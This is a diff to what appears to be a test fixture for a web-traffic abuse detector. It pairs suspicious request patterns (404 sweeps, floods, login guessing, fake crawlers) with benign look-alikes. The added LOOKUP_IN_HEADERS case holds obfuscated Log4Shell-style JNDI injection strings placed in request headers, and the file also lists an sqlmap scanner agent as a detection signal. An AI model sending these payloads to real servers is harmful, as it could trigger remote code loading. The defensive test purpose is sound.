@@ -42,6 +42,7 @@ PAYMENT = {"path": "/checkout", "method": "POST", **REFERRED}
 CART = {"path": "/cart", "method": "POST", **REFERRED}
 CODE = {"path": "/coupon", "method": "POST", **REFERRED}
 COMMENT = {"path": "/comments/add", "method": "POST", **REFERRED}
+BLIND = {"path": "/comments/add", "method": "POST"}
 SIGNUP = {"path": "/signup", "method": "POST", **REFERRED}
 CAPTCHA = {"path": "/captcha", "method": "POST", **REFERRED}
 PARTNER = {"path": "/api/v1/stock", "user_agent": SCRIPT, "user": "partner"}
@@ -75,14 +76,18 @@ CASES = {
     ),
     "NOT_FOUND_SWEEP": (
         [{"path": f"/{i}", "status": 404} for i in range(4)],
-        [{"path": f"/{i}", "status": 404} for i in range(4)] + [{}] * 5,
+        [{"path": f"/people/{i}/avatar", "status": 404} for i in range(4)],
     ),
     "NOT_FOUND_TREE": (
         series({"path": "/{i}", "status": 404}, 15) + [{}] * 20,
-        series({"path": "/same", "status": 404}, 15) + [{}] * 20,
+        series({"path": "/a/{i}.png", "status": 404}, 15) + [{}] * 20,
     ),
     "MALFORMED_REQUESTS": ([{"method": None, "path": r"\x16\x03"}], [{"method": "OPTIONS", "path": "*"}]),
     "ODD_METHODS": ([{"method": "TRACE"}], [{"method": "OPTIONS"}]),
+    "LOOKUP_IN_HEADERS": (
+        [{"referrer": "${jndi:${lower:l}dap://a.example/b}"}, {"user_agent": "${${::-j}ndi:rmi://a.example}"}],
+        [{"referrer": "http://site.example/users/${name}"}],
+    ),
     "VERSION_FILES": ([{"path": "/readme.html"}], [{"path": "/readme"}]),
     "MARKUP_IN_QUERIES": (
         [{"path": "/a", "query": "q=%3Cb%3E"}, {"path": "/b", "query": "q=%27a"}],
@@ -104,7 +109,26 @@ CASES = {
     "SCANNER_AGENT": ([{"user_agent": "sqlmap/1.7"}], [{}]),
     # --- harvesting and flooding
     "PAGES_WITHOUT_ASSETS": (PAGES, [*PAGES, {"path": "/a.css", "at": 101}]),
-    "PAGE_BURST": ([{"path": f"/{i}"} for i in range(6)], [{"path": f"/{i}", "at": i * 3} for i in range(6)]),
+    "BARE_PAGES_IN_HASTE": (
+        [{"path": f"/{i}", "at": i * 20} for i in range(10)],
+        [{"path": f"/{i}", "at": i * 20 + (i > 4) * 60} for i in range(10)],
+    ),
+    "PAGE_BURST": (
+        [{"path": f"/{i}"} for i in range(6)],
+        [{"path": f"/book/{i}", "status": (200, 200, 304)[i % 3]} for i in range(6)],
+    ),
+    "PAGE_STORM": (
+        [{"path": f"/{i}", "at": i // 2} for i in range(12)],
+        [{"path": f"/{i}", "at": i * 2} for i in range(12)],
+    ),
+    "MANY_PAGES": (
+        series({"path": "/{i}"}, 40, every=90),
+        series({"path": "/{i}"}, 40, every=90) + series(ASSET, 20),
+    ),
+    "PAGES_ON_A_TIMER": (
+        [row for i in range(12) for row in ({"path": f"/{i}", "at": i * 30}, {**ASSET, "at": i * 30 + 1})],
+        [row for i in range(12) for row in ({"path": f"/{i}", "at": i * i * 9}, {**ASSET, "at": i * i * 9 + 1})],
+    ),
     "TIMER": (
         [{"path": f"/{i}", "at": i * 30} for i in range(6)],
         [{"path": "/health", "at": i * 30} for i in range(6)],
@@ -120,7 +144,20 @@ CASES = {
     ),
     "NUMBERS_COUNTED": (
         series({"path": "/item/{i}"}, 9),
-        [{"path": f"/item/{i * 7 % 31}", "at": i * 9} for i in range(9)],
+        series({"path": "/item/{i}"}, 6) + series({"path": "/item/{i}", "status": 304}, 9),
+    ),
+    "NUMBERS_WALKED": (
+        series({"path": "/item/{i}"}, 16),
+        [{"path": f"/item/{i * 7 % 31}", "at": i * 9} for i in range(20)],
+    ),
+    "SEARCH_FLOOD": (
+        series({"path": "/search", "query": "q=a"}, 60),
+        series({"path": "/search", "query": "q=a"}, 60) + series(ASSET, 6),
+    ),
+    "ONE_PATH_FLOOD": (series({"path": "/dear"}, 60, every=3), series({"path": "/news"}, 60, every=60)),
+    "FAILURES_IGNORED": (
+        series({"path": "/dear"}, 48) + series({"path": "/dear", "status": 503}, 12),
+        series({"path": "/dear"}, 12) + series({"path": "/dear", "status": 503}, 12),
     ),
     "PAGES_WITHOUT_PAUSE": (
         series({"path": "/{i}"}, 25, every=13),
@@ -130,7 +167,10 @@ CASES = {
         series({"path": "/search", "query": "q=a"}, 15),
         [*series({"path": "/search", "query": "q=a"}, 15), ASSET],
     ),
-    "EXPORT_SERIES": (series({"path": "/export"}, 6), series({"path": "/export"}, 5)),
+    "EXPORT_SERIES": (
+        series({"path": "/export"}, 6),
+        series({"path": "/data/{i}.sql"}, 6) + series({"path": "/data/{i}.sql", "status": 304}, 2),
+    ),
     "API_WITHOUT_PAGE": (
         series({"path": "/api/item/{i}"}, 15),
         [{}, *series({"path": "/api/item/{i}"}, 15)],
@@ -148,6 +188,7 @@ CASES = {
     "LOGIN_FAILURES": ([FAILED] * 5, [FAILED] * 4),
     "LOGIN_GUESSING": (series(FAILED, 12), [*series(FAILED, 11), LOGIN]),
     "LOGIN_BURST": ([FAILED] + [LOGIN] * 9, series(FAILED, 10)),
+    "LOGIN_REPEATED": ([LOGIN] * 5, [*[LOGIN] * 5, {"path": "/account"}]),
     "ACCOUNTS_TRIED": (by_accounts(FAILED, 3), by_accounts(FAILED, 2)),
     "ONLY_FAILED_LOGINS": ([FAILED] * 2, [FAILED] * 2 + [ASSET]),
     "LOGINS_WITHOUT_PAGE": ([FAILED] * 3, [{}, *[FAILED] * 3]),
@@ -222,14 +263,18 @@ CASES = {
         series({"path": "/adclick"}, 3),
         [ASSET, *series({"path": "/adclick"}, 3)],
     ),
+    "AD_CLICK_SERIES": (series({"path": "/adclick"}, 20), series({"path": "/adclick"}, 19)),
     "VOTES_REPEATED": (series({"path": "/post/1/vote"}, 4), series({"path": "/post/{i}/vote"}, 4)),
     "VOTES_ALONE": (series({"path": "/post/{i}/vote"}, 4), [ASSET, *series({"path": "/post/{i}/vote"}, 4)]),
-    "BLIND_POST": ([{"method": "POST", "path": "/comment"}], [{"method": "POST", "path": "/comment", **REFERRED}]),
+    "BLIND_POST": ([BLIND] * 2, [*PAGES, BLIND, BLIND]),
+    "FORMS_ALONE": ([COMMENT] * 3, [*[COMMENT] * 3, ASSET]),
+    "POST_SERIES": (series(COMMENT, 8), series(COMMENT, 8) + series({"path": "/thread"}, 20)),
+    "POST_SERIES_LONG": (series(COMMENT, 25), series(COMMENT | {"path": "/comments/{i}"}, 25)),
     "COMMENT_SERIES": (series(COMMENT, 6), series(COMMENT, 5)),
     "FORM_FLOOD": ([COMMENT] * 6, [*[COMMENT] * 6, ASSET]),
     # --- claims
     "HEADLESS_AGENT": ([{"user_agent": "Mozilla/5.0 HeadlessChrome/120.0.0.0"}], [{}]),
-    "SCRIPT_AGENT": ([{"user_agent": SCRIPT}], [PARTNER]),
+    "SCRIPT_AGENT": ([{"user_agent": SCRIPT}], [{"user_agent": SCRIPT, "path": "/health"}]),
     "AGENT_MISSING": ([{"user_agent": None}], [{}]),
     "CRAWLER_FAKE": (
         [{"user_agent": GOOGLE, "client_ip": "8.8.4.4"}],
